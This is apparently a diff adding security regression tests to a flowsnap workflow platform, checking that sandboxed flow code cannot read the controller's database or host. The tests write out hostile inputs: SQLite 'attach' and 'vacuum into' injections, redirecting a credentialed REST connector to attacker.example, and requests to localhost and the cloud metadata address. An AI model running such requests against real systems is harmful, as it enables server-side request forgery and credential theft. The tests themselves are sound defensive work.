@@ -3,6 +3,11 @@
 from __future__ import annotations
 
 import json
+import sqlite3
+import stat
+import subprocess
+import sys
+from pathlib import Path
 
 from flowsnap.v1 import types_pb2
 from platform_under_test import ERROR, SUCCESS, Platform
@@ -309,3 +314,60 @@ def test_code_that_writes_rubbish_to_the_agents_pipe_only_ends_its_own_execution
     )
     assert platform.wait_ended(execution).status == ERROR
     assert answers(platform, "def handler(system, this): this.set_output('answer', 1)") == 1
+
+
+def test_a_flow_can_not_make_the_controller_read_its_own_host_for_it(platform: Platform, tmp_path: Path) -> None:
+    with sqlite3.connect(tmp_path / "allowed.db") as database:
+        database.execute("create table t(a)")
+    platform.connect("allowed", "SQLITE", path=str(tmp_path / "allowed.db"))
+    platform.connect("api", "REST", base_url="http://127.0.0.1:9", headers={"authorization": "secret"})
+    seen = answers(
+        platform,
+        f"""
+        import flow_api
+
+        DATABASE = "{platform.data_dir}/flowsnap.db"
+
+        def attempt(what):
+            try:
+                return what()
+            except flow_api.FlowsnapException as error:
+                return type(error).__name__
+
+        def handler(system, this):
+            this.set_output("answer", [
+                attempt(lambda: this.connect(connector_type="SQLITE", path=DATABASE, fetch="select 1")),
+                attempt(lambda: this.connect("allowed", path=DATABASE, fetch="select * from settings")),
+                attempt(lambda: this.connect("allowed", execute=f"attach '{{DATABASE}}' as x")),
+                attempt(lambda: this.connect("allowed", execute=f"vacuum into '{{DATABASE}}.copy'")),
+                attempt(lambda: this.connect("api", base_url="http://attacker.example", path="/")),
+                attempt(lambda: this.connect("api", url="http://attacker.example")),
+                attempt(lambda: this.connect(connector_type="REST", url="http://127.0.0.1:9/")),
+                attempt(lambda: this.connect(connector_type="REST", url="http://[::1]:9/")),
+                attempt(lambda: this.connect(connector_type="REST", url="http://169.254.169.254/latest")),
+                attempt(lambda: this.connect("allowed", fetchval="select count(*) from t").get("output_value")),
+            ])
+        """,
+    )
+    assert seen == [
+        "PermissionDenied",
+        "InvalidInputError",
+        "ConnectorError",
+        "ConnectorError",
+        "InvalidInputError",
+        "InvalidInputError",
+        "PermissionDenied",
+        "PermissionDenied",
+        "PermissionDenied",
+        {"result": 0},
+    ]
+
+
+def test_the_data_folder_of_a_detached_controller_is_closed_to_other_users(tmp_path: Path) -> None:
+    data_dir = tmp_path / "data"
+    snapctl = [Path(sys.executable).with_name("snapctl"), "--data-dir", data_dir]
+    subprocess.run([*snapctl, "up", "--detach"], check=True, capture_output=True)
+    try:
+        assert stat.S_IMODE(data_dir.stat().st_mode) == 0o700
+    finally:
+        subprocess.run([*snapctl, "down"], check=True, capture_output=True)
